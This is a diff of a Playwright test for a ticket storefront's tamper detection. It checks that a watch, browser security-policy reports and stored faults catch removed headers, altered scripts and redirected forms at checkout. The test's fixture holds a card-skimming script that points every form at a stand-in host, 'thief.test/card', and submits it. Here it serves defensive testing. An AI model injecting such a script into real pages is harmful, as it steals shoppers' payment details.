@@ -5,7 +5,7 @@ import { join } from 'node:path';
 import { chromium, expect } from '@playwright/test';
 import { browserArguments, findBrowser } from '@ticket-storefront/platform-testing/programs';
 import { runStorefrontIn } from '../src/releases/run-storefront';
-import { checkOutWith } from '../src/steps/choose-tickets';
+import { addTickets, openEvent } from '../src/steps/choose-tickets';
 import { test } from '../src/store/isolated-store';
 import { queryStore } from '../src/store/store-database';
 import { startTamperingProxy, type TamperingProxy } from '../src/tampering/tampering-proxy';
@@ -14,9 +14,9 @@ const eventPath = '/events/stripe-paid';
 const thief = 'http://thief.test';
 const isCheckout = (url: URL) => url.pathname.endsWith('/checkout');
 
-const steal = `setTimeout(() => {
+const steal = `setInterval(() => {
   for (const form of document.forms) { form.action = '${thief}/card'; HTMLFormElement.prototype.submit.call(form); }
-}, 4000);`;
+}, 1000);`;
 const hashOfSteal = createHash('sha256').update(steal).digest('base64');
 
 /** Changes an answer on its way to the browser, as who has taken a server can. */
@@ -47,12 +47,12 @@ const tamperings: Readonly<Record<string, Parameters<TamperingProxy['tamper']>[0
 };
 
 /** What the watch finds, and what browsers of visitors report: null if no browser can see it. */
-const found: Readonly<Record<keyof typeof tamperings, readonly [kind: string, report: string | null]>> = {
+const found: Readonly<Record<keyof typeof tamperings, readonly [kind: string, report: RegExp | null]>> = {
   'a removed header': ['header', null],
-  'a changed script of a release': ['script', 'fault script'],
-  'an unlisted script': ['unlisted-script', 'script-src-elem thief.test'],
+  'a changed script of a release': ['script', /^fault remote-checkout-stripe /],
+  'an unlisted script': ['unlisted-script', /^script-src-elem thief\.test$/],
   'a changed script of the processor': ['processor-script', null],
-  'a changed target of a form': ['form', 'form-action thief.test'],
+  'a changed target of a form': ['form', /^form-action thief\.test$/],
 };
 
 let proxy: TamperingProxy;
@@ -99,7 +99,7 @@ test('watch, reports of visitors and metrics find each kind of tampering at a ch
     const violations = await queryStore<{ name: string }>(
       store.store,
       `select directive || ' ' || blocked as name from policy_reports where page = 'checkout'
-      union all select 'fault ' || kind from part_faults`,
+      union all select 'fault ' || part || ' ' || kind from part_faults`,
       [],
     );
     return violations.map(({ name }) => name);
@@ -118,27 +118,21 @@ test('watch, reports of visitors and metrics find each kind of tampering at a ch
     // The API has it for the metric that alerts.
     expect(await stored(), name).toContain(kind);
 
-    await queryStore(store.store, 'delete from policy_reports', []);
-    await queryStore(store.store, 'delete from part_faults', []);
-    const browser = await chromium.launch({
-      executablePath: await findBrowser(),
-      args: [...browserArguments, `--proxy-server=${proxy.address}`, '--proxy-bypass-list=<-loopback>'],
-    });
-    try {
-      proxy.tamper(null);
+    if (report) {
+      await queryStore(store.store, 'delete from policy_reports', []);
+      await queryStore(store.store, 'delete from part_faults', []);
+      const browser = await chromium.launch({
+        executablePath: await findBrowser(),
+        args: [...browserArguments, `--proxy-server=${proxy.address}`, '--proxy-bypass-list=<-loopback>'],
+      });
       const page = await browser.newPage({ baseURL: store.origin });
-      await checkOutWith(page, 'stripe-paid', 'Deck', 1);
-      proxy.tamper(tamper);
-      await page.goto(`${eventPath}/checkout`).catch(() => undefined);
-      if (report) await expect.poll(reports, { message: name, timeout: 30_000 }).toContain(report);
-      else {
-        await page.waitForTimeout(8000);
-        expect(await reports(), name).toEqual([]);
-      }
-    } finally {
+      await openEvent(page, 'stripe-paid');
+      await addTickets(page, 'Deck', 1);
+      await page.getByRole('link', { name: 'Checkout' }).click();
+      await expect.poll(reports, name).toContainEqual(expect.stringMatching(report));
       await browser.close();
-      proxy.tamper(null);
     }
+    proxy.tamper(null);
   }
   expect(await watch()).toEqual({ code: 0, kinds: [], sentences: [] });
   expect(await stored()).toEqual([]);
